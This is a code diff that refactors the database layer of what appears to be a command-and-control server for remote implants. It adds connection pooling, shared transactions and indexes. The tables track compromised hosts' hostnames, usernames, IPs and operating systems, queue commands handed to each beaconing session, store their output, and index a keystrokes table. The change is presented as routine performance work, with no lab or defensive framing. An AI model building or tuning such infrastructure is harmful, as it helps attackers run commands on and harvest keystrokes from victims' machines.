@@ -1,12 +1,164 @@
 import os
+import queue
 import sqlite3
 import secrets
+import threading
+from contextlib import contextmanager
 from datetime import datetime, timedelta
 
+POOL_SIZE = 16
+BUSY_TIMEOUT_MS = 5000
+
+# Statements are module constants so each pooled connection's statement
+# cache prepares them once and reuses them on every beacon.
+SQL_INSERT_SESSION = '''
+    INSERT INTO sessions
+    (session_id, hostname, username, ip_address, os_type, os_version,
+     first_seen, last_seen, active)
+    VALUES (?, ?, ?, ?, ?, ?, ?, ?, 1)
+'''
+
+SQL_TOUCH_SESSION = '''
+    UPDATE sessions
+    SET last_seen = ?, ip_address = ?
+    WHERE session_id = ?
+'''
+
+SQL_SELECT_PENDING = '''
+    SELECT task_id, command
+    FROM tasks
+    WHERE session_id = ? AND status = 'pending'
+    ORDER BY created_at ASC
+'''
+
+SQL_MARK_RETRIEVED = '''
+    UPDATE tasks
+    SET status = 'retrieved', retrieved_at = ?
+    WHERE session_id = ? AND status = 'pending'
+'''
+
+SQL_INSERT_RESULT = '''
+    INSERT INTO results (result_id, task_id, session_id, output, received_at)
+    VALUES (?, ?, ?, ?, ?)
+'''
+
+SQL_MARK_COMPLETED = '''
+    UPDATE tasks
+    SET status = 'completed', completed_at = ?
+    WHERE task_id = ?
+'''
+
+SQL_DEACTIVATE_OLD = '''
+    UPDATE sessions
+    SET active = 0
+    WHERE last_seen < ? AND active = 1
+'''
+
+INDEXES = [
+    'CREATE INDEX IF NOT EXISTS idx_tasks_session_status ON tasks (session_id, status, created_at)',
+    'CREATE INDEX IF NOT EXISTS idx_results_session ON results (session_id, received_at)',
+    'CREATE INDEX IF NOT EXISTS idx_results_task ON results (task_id)',
+    'CREATE INDEX IF NOT EXISTS idx_sessions_active_seen ON sessions (active, last_seen)',
+    'CREATE INDEX IF NOT EXISTS idx_keystrokes_session ON keystrokes (session_id)',
+]
+
+
+class ConnectionPool:
+    """
+    Bounded pool of long-lived SQLite connections in WAL mode.
+
+    Werkzeug's threaded server runs every request on a fresh thread, so
+    connections are pooled across threads rather than held thread-locally.
+    A connection is only ever used by one thread at a time.
+    """
+
+    def __init__(self, db_path: str, size: int = POOL_SIZE):
+        self.db_path = db_path
+        self.size = size
+        self._idle = queue.LifoQueue(maxsize=size)
+        self._created = 0
+        self._lock = threading.Lock()
+
+    def _connect(self):
+        conn = sqlite3.connect(
+            self.db_path,
+            isolation_level=None,  # explicit BEGIN/COMMIT below
+            check_same_thread=False,
+            cached_statements=64,
+            timeout=BUSY_TIMEOUT_MS / 1000
+        )
+        conn.execute('PRAGMA journal_mode=WAL')
+        conn.execute('PRAGMA synchronous=NORMAL')
+        conn.execute(f'PRAGMA busy_timeout={BUSY_TIMEOUT_MS}')
+        return conn
+
+    def acquire(self):
+        try:
+            return self._idle.get_nowait()
+        except queue.Empty:
+            pass
+        with self._lock:
+            if self._created < self.size:
+                self._created += 1
+                return self._connect()
+        return self._idle.get()
+
+    def release(self, conn):
+        if conn.in_transaction:
+            conn.rollback()
+        self._idle.put(conn)
+
+    def close(self):
+        while True:
+            try:
+                self._idle.get_nowait().close()
+            except queue.Empty:
+                break
+        with self._lock:
+            self._created = 0
+
+
+_pools = {}
+_pools_lock = threading.Lock()
+
+
+def get_pool(db_path: str) -> ConnectionPool:
+    pool = _pools.get(db_path)
+    if pool is None:
+        with _pools_lock:
+            pool = _pools.setdefault(db_path, ConnectionPool(db_path))
+    return pool
+
+
+def close_pool(db_path: str):
+    with _pools_lock:
+        pool = _pools.pop(db_path, None)
+    if pool:
+        pool.close()
+
+
+@contextmanager
+def transaction(db_path: str, immediate: bool = False):
+    """Pooled connection inside a single BEGIN ... COMMIT"""
+    pool = get_pool(db_path)
+    conn = pool.acquire()
+    try:
+        conn.execute('BEGIN IMMEDIATE' if immediate else 'BEGIN')
+        try:
+            yield conn
+        except BaseException:
+            conn.execute('ROLLBACK')
+            raise
+        conn.execute('COMMIT')
+    finally:
+        pool.release(conn)
+
+
 def init_database(db_path: str):
     os.makedirs(os.path.dirname(db_path), exist_ok=True)
     conn = sqlite3.connect(db_path)
     cursor = conn.cursor()
+    cursor.execute('PRAGMA journal_mode=WAL')
 
     cursor.execute('''
         CREATE TABLE IF NOT EXISTS sessions (
@@ -58,19 +210,15 @@ def init_database(db_path: str):
         )
     ''')
 
+    for statement in INDEXES:
+        cursor.execute(statement)
+
     conn.commit()
     conn.close()
 
-def create_session(db_path: str, session_id: str, payload: dict, ip_address: str):
-    conn = sqlite3.connect(db_path)
-    cursor = conn.cursor()
-    now = datetime.now().isoformat()
-    cursor.execute('''
-        INSERT INTO sessions 
-        (session_id, hostname, username, ip_address, os_type, os_version, 
-         first_seen, last_seen, active)
-        VALUES (?, ?, ?, ?, ?, ?, ?, ?, 1)
-    ''', (
+
+def _session_row(session_id: str, payload: dict, ip_address: str, now: str):
+    return (
         session_id,
         payload.get('hostname', 'unknown'),
         payload.get('username', 'unknown'),
@@ -79,80 +227,67 @@ def create_session(db_path: str, session_id: str, payload: dict, ip_address: str
         payload.get('os_version', 'unknown'),
         now,
         now
-    ))
-    conn.commit()
-    conn.close()
+    )
+
+
+def _claim_pending_tasks(conn, session_id: str, now: str):
+    tasks = [
+        {'task_id': row[0], 'command': row[1]}
+        for row in conn.execute(SQL_SELECT_PENDING, (session_id,))
+    ]
+    if tasks:
+        conn.execute(SQL_MARK_RETRIEVED, (now, session_id))
+    return tasks
+
+
+def check_in(db_path: str, session_id: str, payload: dict, ip_address: str):
+    """
+    Register or refresh a session and claim its pending tasks in one
+    write transaction. Returns (session_id, tasks).
+    """
+    now = datetime.now().isoformat()
+    with transaction(db_path, immediate=True) as conn:
+        if not session_id:
+            session_id = secrets.token_hex(16)
+            conn.execute(SQL_INSERT_SESSION, _session_row(session_id, payload, ip_address, now))
+        else:
+            conn.execute(SQL_TOUCH_SESSION, (now, ip_address, session_id))
+        tasks = _claim_pending_tasks(conn, session_id, now)
+    return session_id, tasks
+
+
+def create_session(db_path: str, session_id: str, payload: dict, ip_address: str):
+    now = datetime.now().isoformat()
+    with transaction(db_path, immediate=True) as conn:
+        conn.execute(SQL_INSERT_SESSION, _session_row(session_id, payload, ip_address, now))
+
 
 def update_session(db_path: str, session_id: str, ip_address: str):
-    conn = sqlite3.connect(db_path)
-    cursor = conn.cursor()
-    cursor.execute('''
-        UPDATE sessions 
-        SET last_seen = ?, ip_address = ?
-        WHERE session_id = ?
-    ''', (
-        datetime.now().isoformat(),
-        ip_address,
-        session_id
-    ))
-    conn.commit()
-    conn.close()
+    with transaction(db_path, immediate=True) as conn:
+        conn.execute(SQL_TOUCH_SESSION, (datetime.now().isoformat(), ip_address, session_id))
+
 
 def get_pending_tasks(db_path: str, session_id: str):
-    conn = sqlite3.connect(db_path)
-    cursor = conn.cursor()
-    cursor.execute('''
-        SELECT task_id, command
-        FROM tasks
-        WHERE session_id = ? AND status = 'pending'
-        ORDER BY created_at ASC
-    ''', (session_id,))
-    tasks = [{'task_id': row[0], 'command': row[1]} for row in cursor.fetchall()]
-    for task in tasks:
-        cursor.execute('''
-            UPDATE tasks
-            SET status = 'retrieved', retrieved_at = ?
-            WHERE task_id = ?
-        ''', (datetime.now().isoformat(), task['task_id']))
-    conn.commit()
-    conn.close()
-    return tasks
+    with transaction(db_path, immediate=True) as conn:
+        return _claim_pending_tasks(conn, session_id, datetime.now().isoformat())
+
 
 def store_results(db_path: str, payload: dict):
-    conn = sqlite3.connect(db_path)
-    cursor = conn.cursor()
-    result_id = secrets.token_hex(16)
+    now = datetime.now().isoformat()
     task_id = payload.get('task_id')
-    session_id = payload.get('session_id')
-    output = payload.get('output', '')
-    cursor.execute('''
-        INSERT INTO results (result_id, task_id, session_id, output, received_at)
-        VALUES (?, ?, ?, ?, ?)
-    ''', (
-        result_id,
-        task_id,
-        session_id,
-        output,
-        datetime.now().isoformat()
-    ))
-    cursor.execute('''
-        UPDATE tasks
-        SET status = 'completed', completed_at = ?
-        WHERE task_id = ?
-    ''', (datetime.now().isoformat(), task_id))
-    conn.commit()
-    conn.close()
+    with transaction(db_path, immediate=True) as conn:
+        conn.execute(SQL_INSERT_RESULT, (
+            secrets.token_hex(16),
+            task_id,
+            payload.get('session_id'),
+            payload.get('output', ''),
+            now
+        ))
+        conn.execute(SQL_MARK_COMPLETED, (now, task_id))
+
 
 def cleanup_old_sessions(db_path: str, max_age_days: int):
-    conn = sqlite3.connect(db_path)
-    cursor = conn.cursor()
     cutoff_date = (datetime.now() - timedelta(days=max_age_days)).isoformat()
-    cursor.execute('''
-        UPDATE sessions
-        SET active = 0
-        WHERE last_seen < ? AND active = 1
-    ''', (cutoff_date,))
-    deactivated = cursor.rowcount
-    conn.commit()
-    conn.close()
-    return deactivated
\ No newline at end of file
+    with transaction(db_path, immediate=True) as conn:
+        deactivated = conn.execute(SQL_DEACTIVATE_OLD, (cutoff_date,)).rowcount
+    return deactivated